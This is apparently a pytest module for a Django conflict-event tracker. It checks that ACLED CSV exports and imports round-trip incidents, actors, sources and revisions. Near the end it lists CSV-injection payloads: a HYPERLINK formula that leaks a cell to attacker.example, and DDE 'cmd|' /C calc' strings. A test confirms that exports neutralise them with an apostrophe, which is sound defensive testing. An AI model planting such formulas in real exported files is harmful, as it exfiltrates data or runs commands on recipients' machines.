"""The ACLED export round-trips: importing it (the real importer, into the real PostgreSQL) gives back the same
incidents in everything ACLED carries, and exporting those again gives back the same file."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from rest_framework.test import APIClient

from actors.choices import ActorKind
from conflict_tracker.choices import ImportKind
from events.choices import DatePrecision, EventType, GeoPrecision, IncidentStatus, ParticipantRole, Side, SubEventType
from events.models import CasualtyPerpetrator, CasualtyRecord, Incident, IncidentParticipant
from events.selectors import incident_revisions
from events.services import incident_retract
from imports.choices import ImportStatus
from imports.models import ImportedEvent
from sources.choices import ReviewStatus, SourceKind
from tests.factories import ActorFactory, DocumentFactory, IncidentFactory, ReviewedClaimFactory, SourceFactory
from tests.helpers.imports import FILES

pytestmark = pytest.mark.django_db

# ACLED's day, week and month; a year is not among them (module docstring of events/exports/acled.py).
ACLED_PRECISION = {"year": DatePrecision.MONTH}
# The column the round trip may change: the time of the last change.
VOLATILE = {"timestamp"}


@pytest.fixture(autouse=True)
def licensed_for_acled(settings):
    """The round trips read the public exports, as a deployment licensed to pass ACLED's events on serves them.
    The events imported back are twins of the originals, which would be merged with them: not here, where the
    copies are compared with the originals (tests/reconciliation merges them)."""
    settings.REDISTRIBUTION_LICENSED = ["ACLED"]
    settings.RECONCILE_AUTO_SAME = 2


def export_acled(export_format="acled", **params) -> str:
    response = APIClient().get("/api/v1/incidents/", {"format": export_format, **params})
    assert response.status_code == 200, response.content
    return b"".join(response.streaming_content).decode()


def rows_by_id(text: str) -> dict[str, dict]:
    rows = [row for row in csv.DictReader(io.StringIO(text)) if not row["event_id_cnty"].startswith("#")]
    by_id = {row["event_id_cnty"]: row for row in rows}
    assert len(by_id) == len(rows)
    return by_id


def sides(row: dict) -> tuple[list[str], list[str]]:
    """The actors of each side of an ACLED row, in name order."""

    def names(*cells):
        return sorted(name for cell in cells for name in cell.split("; ") if name)

    return names(row["actor1"], row["assoc_actor_1"]), names(row["actor2"], row["assoc_actor_2"])


def import_text(run_import, tmp_path, text: str, name: str):
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    job = run_import(path)
    assert job.status == ImportStatus.SUCCEEDED, job.failure
    assert job.error_count == 0, job.errors
    return job


def carried(incident: Incident) -> dict:
    """What an ACLED row says of an incident, read from the database."""
    participants = sorted(
        (p.actor.name, p.role, p.side or (Side.A if p.role == ParticipantRole.PERPETRATOR else Side.B))
        for p in incident.participants.select_related("actor")
    )
    return {
        "start_date": incident.start_date,
        "date_precision": ACLED_PRECISION.get(incident.date_precision, incident.date_precision),
        "country": incident.country,
        "admin1": incident.admin1,
        "admin2": incident.admin2,
        "admin3": incident.admin3,
        "location_name": incident.location_name,
        "latitude": incident.latitude,
        "longitude": incident.longitude,
        "geo_precision": incident.geo_precision,
        "event_type": incident.event_type,
        "sub_event_type": incident.sub_event_type,
        "civilian_targeting": incident.civilian_targeting,
        "notes": incident.notes,
        "fatalities": incident.fatalities_best,
        "participants": participants,
    }


def published(**fields) -> Incident:
    return IncidentFactory(status=IncidentStatus.PUBLISHED, published_at=datetime.datetime.now(datetime.UTC), **fields)


def take_part(incident, actor, role, side):
    return IncidentParticipant.objects.create(incident=incident, actor=actor, role=role, side=side)


def killed(incident, victim_status, best, *, low=None, high=None, by=()):
    record = CasualtyRecord.objects.create(
        incident=incident,
        harm="killed",
        victim_status=victim_status,
        count_low=best if low is None else low,
        count_best=best,
        count_high=best if high is None else high,
    )
    for participant in by:
        CasualtyPerpetrator.objects.create(incident=incident, casualty_record=record, participant=participant)
    return record


def cite(incident, source):
    return ReviewedClaimFactory(incident=incident, document=DocumentFactory(source=source))


@pytest.fixture
def dataset(db):
    """Published incidents of every shape ACLED has: joint perpetrators, both sides named, a side-less target, day,
    week, month and year dates, no coordinates, no actor on side B, two countries, protests, notes with commas,
    quotes and a line break, several sources of several scales."""
    fama = ActorFactory(name="Malian Armed Forces", acronym="FAMa", kind=ActorKind.STATE_FORCES)
    wagner = ActorFactory(name="Wagner Group", kind=ActorKind.EXTERNAL_OTHER)
    jnim = ActorFactory(name="Jama'at Nusrat al-Islam wal-Muslimin", acronym="JNIM", kind=ActorKind.REBEL_GROUP)
    civilians = ActorFactory(name="Civilians (Mali)", kind=ActorKind.CIVILIANS)
    dozos = ActorFactory(name="Dozo Militia", kind=ActorKind.IDENTITY_MILITIA)
    traders = ActorFactory(name="Protesters (Mali)", kind=ActorKind.PROTESTERS)
    police = ActorFactory(name="Police Forces of Mali", kind=ActorKind.STATE_FORCES)
    niger = ActorFactory(name="Military Forces of Niger", kind=ActorKind.STATE_FORCES)
    hrw = SourceFactory(name="Human Rights Watch", acronym="HRW", kind=SourceKind.HUMAN_RIGHTS_NGO)
    essor = SourceFactory(name="L'Essor", country="MLI")
    witness = SourceFactory(name="Witness in Moura", kind=SourceKind.WITNESS, country="MLI")
    soleil = SourceFactory(name="Le Soleil", country="SEN")

    massacre = published(
        title="Massacre in Moura",
        start_date=datetime.date(2022, 3, 27),
        admin1="Mopti",
        admin2="Djenne",
        admin3="Dandougou Fakala",
        location_name="Moura",
        latitude=Decimal("13.83000"),
        longitude=Decimal("-4.58000"),
        geo_precision=GeoPrecision.EXACT,
        event_type=EventType.VIOLENCE_AGAINST_CIVILIANS,
        sub_event_type=SubEventType.ATTACK,
        civilian_targeting=True,
        notes='Soldiers and "white" foreign fighters, landing by helicopter, executed men at the market;\nfive days.',
        fatalities_low=300,
        fatalities_best=500,
        fatalities_high=520,
    )
    # Joint perpetrators, Wagner entered first (so named first, actor1), and a target with no side.
    pair = [take_part(massacre, wagner, "perpetrator", Side.A), take_part(massacre, fama, "perpetrator", Side.A)]
    take_part(massacre, civilians, "target", "")
    killed(massacre, "civilian", 500, low=300, high=520, by=pair)
    for source in (hrw, essor, witness):
        cite(massacre, source)

    clash = published(
        title="Clash near Boulkessi",
        start_date=datetime.date(2024, 6, 4),
        date_precision=DatePrecision.WEEK,
        admin1="Mopti",
        admin2="Douentza",
        location_name="Boulkessi",
        latitude=Decimal("15.05000"),
        longitude=Decimal("-1.36000"),
        event_type=EventType.BATTLES,
        sub_event_type=SubEventType.ARMED_CLASH,
        fatalities_best=17,
        fatalities_low=17,
        fatalities_high=17,
    )
    soldiers = take_part(clash, fama, "perpetrator", Side.A)
    fighters = take_part(clash, jnim, "target", Side.B)
    take_part(clash, dozos, "target", Side.B)
    killed(clash, "combatant", 12, by=[soldiers])
    killed(clash, "unknown", 5)
    del fighters
    cite(clash, soleil)

    mine = published(
        title="Mine on the Douentza road",
        start_date=datetime.date(2023, 9, 1),
        date_precision=DatePrecision.MONTH,
        admin1="Mopti",
        admin2="Douentza",
        geo_precision=GeoPrecision.REGION,
        event_type=EventType.EXPLOSIONS_REMOTE_VIOLENCE,
        sub_event_type=SubEventType.REMOTE_EXPLOSIVE,
        fatalities_best=4,
        fatalities_low=4,
        fatalities_high=4,
    )
    bomber = take_part(mine, jnim, "perpetrator", Side.A)
    killed(mine, "unknown", 4, by=[bomber])
    cite(mine, essor)

    protest = published(
        title="Traders protest in Bamako",
        start_date=datetime.date(2024, 4, 10),
        admin1="Bamako",
        admin2="Bamako",
        location_name="Bamako",
        latitude=Decimal("12.65000"),
        longitude=Decimal("-8.00000"),
        event_type=EventType.PROTESTS,
        sub_event_type=SubEventType.PROTEST_WITH_INTERVENTION,
    )
    take_part(protest, traders, "other", Side.A)
    take_part(protest, police, "other", Side.B)
    cite(protest, essor)

    raid = published(
        title="Raid in Tillaberi",
        country="NER",
        start_date=datetime.date(2021, 1, 2),
        date_precision=DatePrecision.YEAR,
        admin1="Tillaberi",
        location_name="Tchoma Bangou",
        latitude=Decimal("14.50000"),
        longitude=Decimal("1.00000"),
        event_type=EventType.BATTLES,
        sub_event_type=SubEventType.ARMED_CLASH,
        fatalities_best=9,
        fatalities_low=9,
        fatalities_high=9,
    )
    take_part(raid, niger, "perpetrator", Side.A)
    cite(raid, hrw)
    cite(raid, soleil)
    return {"massacre": massacre, "clash": clash, "mine": mine, "protest": protest, "raid": raid}


def test_importing_the_acled_export_gives_back_the_same_incidents(dataset, run_import, tmp_path):
    exported = export_acled()

    job = import_text(run_import, tmp_path, exported, "ours.csv")

    assert (job.created, job.updated, job.unchanged, job.actors_created) == (len(dataset), 0, 0, 0)
    for original in dataset.values():
        imported = ImportedEvent.objects.select_related("incident", "document__source").get(
            kind=ImportKind.ACLED, external_id=original.code
        )
        assert imported.incident.pk != original.pk
        assert carried(imported.incident) == carried(original), original.title
        assert imported.incident.end_date == original.end_date
        # The sources of the original, as ACLED names them, behind the import's ACLED document and claim.
        assert imported.document.author == rows_by_id(exported)[original.code]["source"]
        assert imported.document.source.name == "ACLED"
        assert imported.incident.status == IncidentStatus.PUBLISHED
    assert rows_by_id(exported)[dataset["massacre"].code]["source"] == "HRW; L'Essor; Witness in Moura"


def test_the_export_of_the_imported_incidents_is_the_export_of_the_originals(dataset, run_import, tmp_path, editor):
    first = export_acled()
    import_text(run_import, tmp_path, first, "ours.csv")
    # Only the imported copies stay public: the originals are retracted.
    for original in dataset.values():
        incident_retract(incident=original, by=editor, reason="Replaced by its ACLED round trip.")

    second = export_acled()

    before, after = rows_by_id(first), rows_by_id(second)
    assert set(after) == set(before) == {original.code for original in dataset.values()}
    for event_id, row in after.items():
        assert {k: v for k, v in row.items() if k not in VOLATILE} == {
            k: v for k, v in before[event_id].items() if k not in VOLATILE
        }
        assert sides(row) == sides(before[event_id])
    # Joint perpetrators stay on side A, the side-less target on side B.
    assert sides(after[dataset["massacre"].code]) == (["Malian Armed Forces", "Wagner Group"], ["Civilians (Mali)"])


def test_a_reimport_of_the_re_export_updates_and_never_duplicates(dataset, run_import, tmp_path, editor):
    import_text(run_import, tmp_path, export_acled(), "ours.csv")
    for original in dataset.values():
        incident_retract(incident=original, by=editor, reason="Replaced by its ACLED round trip.")
    imported_before = {
        event.external_id: carried(event.incident)
        for event in ImportedEvent.objects.select_related("incident").filter(kind=ImportKind.ACLED)
    }

    job = import_text(run_import, tmp_path, export_acled(), "again.csv")

    assert (job.created, job.updated, job.unchanged) == (0, 0, len(dataset))
    assert Incident.objects.count() == 2 * len(dataset)
    assert {
        event.external_id: carried(event.incident)
        for event in ImportedEvent.objects.select_related("incident").filter(kind=ImportKind.ACLED)
    } == imported_before


def test_an_acled_file_exported_again_keeps_acleds_event_ids_and_columns(known_actors, run_import, tmp_path):
    with (FILES / "acled_current.csv").open(encoding="utf-8-sig", newline="") as stream:
        original = stream.read()
    run_import("acled_current.csv")

    exported = rows_by_id(export_acled())

    given = rows_by_id(original)
    assert set(exported) == set(given) == {"MLI9001", "MLI9002", "MLI9003"}
    for event_id, row in exported.items():
        # Every column of ACLED's file as the file gave it (ACLED's NA is a blank cell), ids and timestamp too.
        assert {column: row[column] for column in given[event_id]} == {
            column: "" if value == "NA" else value for column, value in given[event_id].items()
        }, event_id
        assert (row["event_id_no_cnty"], row["data_id"]) == ("", "")  # not in this file
    # The actors under ACLED's labels, with their period, though the army resolved to our Malian Armed Forces.
    assert sides(exported["MLI9002"]) == (["Military Forces of Mali (2013-)"], ["Katiba Serma"])
    assert (
        ImportedEvent.objects.get(external_id="MLI9002")
        .incident.participants.filter(actor=known_actors["fama"])
        .exists()
    )

    job = import_text(run_import, tmp_path, export_acled(), "again.csv")

    assert (job.created, job.updated, job.unchanged) == (0, 0, 3)
    assert ImportedEvent.objects.count() == 3


def revisions() -> dict[str, list]:
    """Each imported event's incident revisions (their action and version, oldest first), by ACLED event id."""
    return {
        imported.external_id: [(r["action"], r["version"]) for r in reversed(incident_revisions(imported.incident))]
        for imported in ImportedEvent.objects.select_related("incident")
    }


@pytest.mark.parametrize(
    "name", ["acled_current.csv", "acled_2019.csv", "acled_pre2019.csv", "acled_monadic.csv", "acled_dyadic.csv"]
)
def test_importing_the_export_of_imported_events_changes_nothing(name, known_actors, run_import, tmp_path):
    first = run_import(name)
    assert (first.status, first.error_count) == (ImportStatus.SUCCEEDED, 0)
    before = revisions()

    job = import_text(run_import, tmp_path, export_acled(), "again.csv")

    # Dated labels, aliases and monadic rows come back as the actors' names, dyadic, in another order of rows:
    # the same incidents all the same, so no event is updated and no revision written.
    assert (job.created, job.updated, job.unchanged, job.actors_created) == (0, 0, first.created, 0)
    assert revisions() == before
    assert all(history == [("import.acled", 1)] for history in before.values())


def test_a_change_made_in_the_exported_file_is_one_update_with_one_revision(known_actors, run_import, tmp_path):
    run_import("acled_current.csv")
    exported = export_acled()
    row = next(line for line in csv.reader(io.StringIO(exported)) if line[0] == "MLI9001")
    assert row[-5:-3] == ["14", ""]  # fatalities, tags
    edited = exported.replace('Residents fled to Djenne.",14,', 'Residents fled to Djenne.",24,', 1)
    assert edited != exported
    before = revisions()

    # In the version imported before (its timestamp), the edit is not applied: a version is one state of the event.
    same_version = import_text(run_import, tmp_path, edited, "edited.csv")
    assert (same_version.created, same_version.updated, same_version.unchanged) == (0, 0, 3)
    assert any("MLI9001 is in the version imported before" in note for note in same_version.notes)
    assert revisions() == before

    # With a newer timestamp, as ACLED gives an event it changed, it is one update.
    changed = edited.replace(",24,,1710000000", ",24,,1720000000", 1)
    assert changed != edited
    job = import_text(run_import, tmp_path, changed, "changed.csv")

    assert (job.created, job.updated, job.unchanged) == (0, 1, 2)
    after = revisions()
    assert after["MLI9001"] == [*before["MLI9001"], ("import.acled", 2)]
    assert {k: v for k, v in after.items() if k != "MLI9001"} == {k: v for k, v in before.items() if k != "MLI9001"}
    latest = incident_revisions(ImportedEvent.objects.get(external_id="MLI9001").incident)[0]
    changes = {change["record"]: change["fields"] for change in latest["changes"]}
    assert changes["incident"]["fatalities_best"] == {"from": 14, "to": 24}
    assert changes["casualtyrecord"]["count_best"] == {"from": 14, "to": 24}
    assert "incidentparticipant" not in changes

    # The changed file imported again: nothing more to change.
    again = import_text(run_import, tmp_path, changed, "changed-again.csv")
    assert (again.updated, again.unchanged) == (0, 3)
    assert revisions() == after


def test_the_hxl_export_imports_as_well(dataset, run_import, tmp_path):
    text = export_acled("acled-hxl")

    job = import_text(run_import, tmp_path, text, "hxl.csv")

    assert text.splitlines()[1].startswith("#event+code,#date+occurred,#date+year,,,#event+type")
    assert job.created == len(dataset)


def test_a_rejected_source_does_not_travel(dataset, run_import, tmp_path):
    ReviewedClaimFactory(
        incident=dataset["mine"],
        document=DocumentFactory(source=SourceFactory(name="Rumour Mill")),
        review_status=ReviewStatus.REJECTED,
    )

    job = import_text(run_import, tmp_path, export_acled(), "ours.csv")

    assert job.created == len(dataset)
    assert ImportedEvent.objects.get(external_id=dataset["mine"].code).document.author == "L'Essor"


# Text a spreadsheet would run as a formula (OWASP "CSV Injection"), and one already quoted as our exports quote.
FORMULAS = [
    '=HYPERLINK("https://attacker.example/?"&A1,"Details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'-already quoted",
]


@pytest.fixture
def hostile(db):
    """A published incident whose every text ACLED carries (notes, places, actors, sources) starts as a formula."""
    incident = published(
        title=FORMULAS[0],
        notes=FORMULAS[0],
        admin1=FORMULAS[1],
        admin2=FORMULAS[2],
        admin3=FORMULAS[3],
        location_name=FORMULAS[4],
        latitude=Decimal("14.35000"),
        longitude=Decimal("-3.61000"),
        event_type=EventType.VIOLENCE_AGAINST_CIVILIANS,
        sub_event_type=SubEventType.ATTACK,
        fatalities_low=3,
        fatalities_best=3,
        fatalities_high=3,
    )
    kinds = [ActorKind.STATE_FORCES, ActorKind.REBEL_GROUP, ActorKind.IDENTITY_MILITIA, ActorKind.CIVILIANS]
    roles = [("perpetrator", Side.A), ("perpetrator", Side.A), ("target", Side.B), ("target", Side.B)]
    for name, kind, (role, side) in zip(FORMULAS, kinds, roles, strict=False):
        take_part(incident, ActorFactory(name=name, kind=kind), role, side)
    cite(incident, SourceFactory(name=FORMULAS[3], kind=SourceKind.HUMAN_RIGHTS_NGO))
    return incident


def test_formulas_are_exported_quoted_and_imported_as_they_were(hostile, run_import, tmp_path, editor):
    exported = export_acled()
    row = rows_by_id(exported)[hostile.code]
    # Each cell that would run starts with an apostrophe; the longitude, a number, is left a number.
    assert (row["notes"], row["admin1"], row["location"]) == (
        f"'{FORMULAS[0]}",
        f"'{FORMULAS[1]}",
        "''-already quoted",
    )
    assert row["actor1"].startswith("'") and row["source"] == f"'{FORMULAS[3]}"
    assert row["longitude"] == "-3.61000"

    job = import_text(run_import, tmp_path, exported, "hostile.csv")

    imported = ImportedEvent.objects.select_related("incident", "document").get(external_id=hostile.code)
    assert job.actors_created == 0
    assert carried(imported.incident) == carried(hostile)
    assert imported.document.author == FORMULAS[3]
    # Exported again, the imported copy gives the same file.
    incident_retract(incident=hostile, by=editor, reason="Replaced by its ACLED round trip.")
    again = rows_by_id(export_acled())[hostile.code]
    assert {k: v for k, v in again.items() if k not in VOLATILE} == {k: v for k, v in row.items() if k not in VOLATILE}


def test_the_acled_export_gives_back_acleds_ids_codes_labels_and_timestamp(known_actors, run_import):
    """The 2019 schema: ACLED's ids, its numeric type codes and interaction, its labels with their period."""
    run_import("acled_2019.csv")

    row = rows_by_id(export_acled())["MLI8001"]

    assert (row["event_id_no_cnty"], row["data_id"], row["timestamp"]) == ("8001", "7001", "1609500000")
    assert (row["actor1"], row["inter1"], row["actor2"], row["inter2"], row["interaction"]) == (
        "JNIM: Group for Support of Islam and Muslims",
        "2",
        "Military Forces of Mali (2020-2021)",
        "1",
        "12",
    )


def test_an_actor_added_here_is_exported_under_its_name_and_the_code_of_its_kind(known_actors, run_import):
    run_import("acled_current.csv")
    incident = ImportedEvent.objects.get(external_id="MLI9002").incident
    IncidentParticipant.objects.filter(incident=incident, side=Side.B).update(actor=known_actors["jnim"])

    row = rows_by_id(export_acled())["MLI9002"]

    assert (row["actor1"], row["inter1"]) == ("Military Forces of Mali (2013-)", "State forces")
    assert (row["actor2"], row["inter2"]) == ("Jama'at Nusrat al-Islam wal-Muslimin", "2")
    assert row["interaction"] == "12"  # ours: the file's no longer fits its actors


def test_harm_recorded_here_since_an_import_follows_acleds_own_tags(known_actors, run_import):
    """An import records only the killed, so ACLED's tags come back as they were until harm is added here."""
    run_import("acled_current.csv")
    untouched = rows_by_id(export_acled())
    incident = ImportedEvent.objects.get(external_id="MLI9003").incident
    CasualtyRecord.objects.create(
        incident=incident, harm="injured", victim_status="civilian", count_low=3, count_best=3, count_high=5
    )

    rows = rows_by_id(export_acled())

    assert untouched["MLI9003"]["tags"] == "crowd size=no report"
    assert rows["MLI9003"]["tags"] == "crowd size=no report; injured: 3 (3-5)"
    assert {event_id: row["tags"] for event_id, row in rows.items() if event_id != "MLI9003"} == {
        event_id: row["tags"] for event_id, row in untouched.items() if event_id != "MLI9003"
    }


# Last in the module: the demo data, loaded once per module, stays until the module's end.
def test_the_demo_data_round_trips(demo, run_import, tmp_path):
    exported = export_acled()
    published_before = list(Incident.objects.filter(status=IncidentStatus.PUBLISHED))
    assert published_before

    job = import_text(run_import, tmp_path, exported, "demo.csv")

    assert job.created == len(published_before)
    for original in published_before:
        imported = ImportedEvent.objects.get(kind=ImportKind.ACLED, external_id=original.code).incident
        got, want = carried(imported), carried(original)
        assert {k: v for k, v in got.items() if k != "participants"} == {
            k: v for k, v in want.items() if k != "participants"
        }, original.code
        assert by_side(got) == by_side(want), original.code


def by_side(carried_incident: dict) -> dict[str, list[str]]:
    found = {"A": set(), "B": set()}
    for name, _role, side in carried_incident["participants"]:
        found[side].add(name)
    return {side: sorted(names) for side, names in found.items()}
